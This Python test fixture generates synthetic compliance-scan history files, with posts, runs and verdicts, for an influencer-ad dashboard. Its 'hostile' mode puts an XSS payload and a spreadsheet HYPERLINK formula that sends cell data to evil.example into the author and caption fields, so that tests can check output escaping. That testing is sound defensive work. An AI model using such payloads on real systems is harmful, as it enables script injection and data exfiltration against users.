"""A scan-history state file written straight in the state's schema: many runs, many posts, fast.

Used by tests/test_dashboard.py and tests/test_browser_dashboard.py (small states) and by
bench/dashboard.py (1,000,000 posts). A campaign grows run by run (post k arrives at run
1 + k * runs // posts); some posts are edited at a later run, which fixes (or breaks) them, so
the history has first-seen, changed and fixed posts; a few posts disappear before the last run.
Deterministic for a given seed. `hostile` puts markup and spreadsheet formulas in the authors,
captions and rule ids, as untrusted data in a state file could hold.
"""

from __future__ import annotations

import json
import random
import sqlite3
import zlib
from pathlib import Path

from compliance.run import state as state_mod

JURISDICTIONS = ("de", "fr", "uk", "us")
RULES = {
    "de": ("DE-001", "DE-003", "DE-005"),
    "fr": ("FR-001", "FR-002", "FR-004"),
    "uk": ("UK-001", "UK-002"),
    "us": ("US-001", "US-002", "US-003"),
}
HOSTILE_AUTHOR = '<script>window.__pwned=1</script>"><img src=x onerror=alert(1)>'
HOSTILE_CAPTION = '=HYPERLINK("http://evil.example/?x="&A1,"click") <b>bold</b> <script>alert(2)</script>'
CAPTIONS = (
    "Morning glow with my new serum from @glowlyskin, use code GLOW{n} for 15% off",
    "Leg day done, the new PeakFit shorts are the comfiest thing I own #sp",
    "Werbung | Unboxing the Orbit Audio headphones {n}",
    "Coffee, rain and a good book. No plans today.",
    "#ad Trying the Kettle & Crumb tasting box number {n}",
    "Link in bio for my favourite running shoes (affiliate) {n}",
    "Ölfarben-Set von Pixelhaus, endlich ausprobiert {n}",
)


def _statuses(rng: random.Random, bad: bool) -> dict[str, str]:
    out = {}
    for j in JURISDICTIONS:
        if bad:
            out[j] = rng.choices(("violation", "review", "compliant"), (6, 3, 1))[0]
        else:
            out[j] = rng.choices(("compliant", "clear", "review"), (6, 3, 1))[0]
    return out


def _result(key: str, author: str, caption: str, platform: str, statuses: dict[str, str], rng) -> bytes:
    verdicts = {}
    for j, status in statuses.items():
        findings = []
        if status in ("violation", "review"):
            for rule in rng.sample(RULES[j], rng.randint(1, 2)):
                findings.append(  # the shape and size of a real finding
                    {
                        "citation": {
                            "pinpoint": f"section {rng.randint(1, 9)} on labels placed at the start of a post",
                            "source": f"Guidance of the {j.upper()} advertising regulator on influencer marketing",
                            "url": f"https://regulator.{j}.example/guidance/influencers#{rule.lower()}",
                        },
                        "confidence": "high",
                        "end": 42,
                        "fix": "Put a clear label such as the word for advertising at the very start of the caption.",
                        "message": f"{rule}: this post is advertising (a brand, a code or a link) but its label is "
                        "missing, unclear or too late for followers to see before they read on.",
                        "name": "missing-disclosure",
                        "rule": rule,
                        "severity": "error" if status == "violation" else "warning",
                        "start": 30,
                        "text": "code GLOW15",
                    }
                )
        verdicts[j] = {"status": status, "findings": findings}
    signal = {"confidence": "high", "end": 42, "kind": "discount_code", "start": 30, "text": "code GLOW15"}
    post = {
        "author": author,
        "caption": caption,
        "disclosures": [],
        "error": None,
        "id": key,
        "paid_partnership": False,
        "platform": platform,
        "posted_at": None,
        "signals": [{**signal, "value": "GLOW15"}],
        "source": {"file": "posts.jsonl", "line": int(key[1:]) + 1},
        "verdicts": verdicts,
    }
    return zlib.compress(json.dumps(post, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode(), 1)


def _compact(statuses: dict[str, str]) -> str:
    return json.dumps(dict(sorted(statuses.items())), separators=(",", ":"))


def generate(
    path: str | Path,
    posts: int = 2000,
    runs: int = 12,
    creators: int = 60,
    seed: int = 18,
    hostile: bool = False,
    batch: int = 20000,
) -> dict[str, int]:
    """Write a complete state file at `path` (must not exist); returns the row counts."""
    path = Path(path)
    if path.exists():
        raise FileExistsError(path)
    rng = random.Random(seed)
    conn = sqlite3.connect(str(path), isolation_level=None)
    conn.execute("PRAGMA journal_mode=OFF")
    conn.execute("PRAGMA synchronous=OFF")
    conn.executescript(state_mod.SCHEMA)
    # Indexes are added after the rows (faster); the scan's schema creates them the same way.
    conn.execute("DROP INDEX IF EXISTS history_by_run")
    conn.execute("DROP INDEX IF EXISTS posts_by_run")
    conn.execute("INSERT INTO meta VALUES ('schema', ?)", (state_mod.SCHEMA_VERSION,))
    config = json.dumps({"inputs": ["/srv/audit/posts.jsonl"], "jurisdictions": list(JURISDICTIONS), "tool": "0.1.0"})
    arrived = [min(posts, (posts * r + runs - 1) // runs) for r in range(1, runs + 1)]  # posts present at run r
    conn.execute("BEGIN")
    for r in range(1, runs + 1):
        conn.execute(
            "INSERT INTO runs VALUES (?, 'f0', ?, 1, ?, ?)",
            (r, config, arrived[r - 1], arrived[r - 1] - (arrived[r - 2] if r > 1 else 0)),
        )
    conn.execute("CREATE TEMP TABLE gen (key TEXT PRIMARY KEY, arrival INT, edit INT, gone INT, before TEXT)")
    empty_block = zlib.compress(b"", 1)
    authors = [f"@creator{c:04d}" for c in range(creators)]
    if hostile:
        authors[0] = HOSTILE_AUTHOR
    rows, gen = [], []
    for k in range(posts):
        key = f"p{k:07d}"
        arrival = 1 + (k * runs) // posts
        author = authors[k % creators] if not (hostile and k % 4 == 0) else HOSTILE_AUTHOR  # a top creator
        caption = CAPTIONS[k % len(CAPTIONS)].format(n=k)
        if hostile and k % 7 == 0:
            caption = HOSTILE_CAPTION
        bad = rng.random() < 0.55
        edit = 0
        before = None
        if arrival < runs and rng.random() < 0.15:  # edited later: fixed (mostly) or broken
            edit = rng.randint(arrival + 1, runs)
            before = _compact(_statuses(rng, True))  # it had a problem before the edit
            bad = rng.random() < 0.2  # and most edits fixed it
        gone = runs if rng.random() < 0.03 and arrival < runs else 0  # not in the last run
        statuses = _statuses(rng, bad)
        judged = edit or arrival
        rows.append(
            (
                key,
                key,
                f"h{k}",
                "f0",
                judged,
                json.dumps({"file": "posts.jsonl", "line": k + 1}),
                _compact(statuses),
                _result(key, author, caption, ("instagram", "tiktok", "youtube")[k % 3], statuses, rng),
                empty_block,
            )
        )
        gen.append((key, arrival, edit, gone, before))
        if len(rows) >= batch:
            conn.executemany("INSERT INTO posts VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)", rows)
            conn.executemany("INSERT INTO gen VALUES (?, ?, ?, ?, ?)", gen)
            rows, gen = [], []
    conn.executemany("INSERT INTO posts VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)", rows)
    conn.executemany("INSERT INTO gen VALUES (?, ?, ?, ?, ?)", gen)
    conn.execute(
        "INSERT INTO history (key, run, statuses) "
        "SELECT g.key, r.run, CASE WHEN g.edit > r.run THEN g.before ELSE p.statuses END "
        "FROM gen g JOIN posts p ON p.key = g.key JOIN runs r ON r.run >= g.arrival "
        "AND (g.gone = 0 OR r.run < g.gone) ORDER BY g.key, r.run"
    )
    conn.execute("COMMIT")
    conn.executescript(state_mod.SCHEMA)  # the indexes, as the scan creates them
    counts = {
        "runs": runs,
        "posts": conn.execute("SELECT count(*) FROM posts").fetchone()[0],
        "history": conn.execute("SELECT count(*) FROM history").fetchone()[0],
    }
    conn.execute("PRAGMA journal_mode=WAL")  # as the scan leaves it
    conn.close()
    return counts
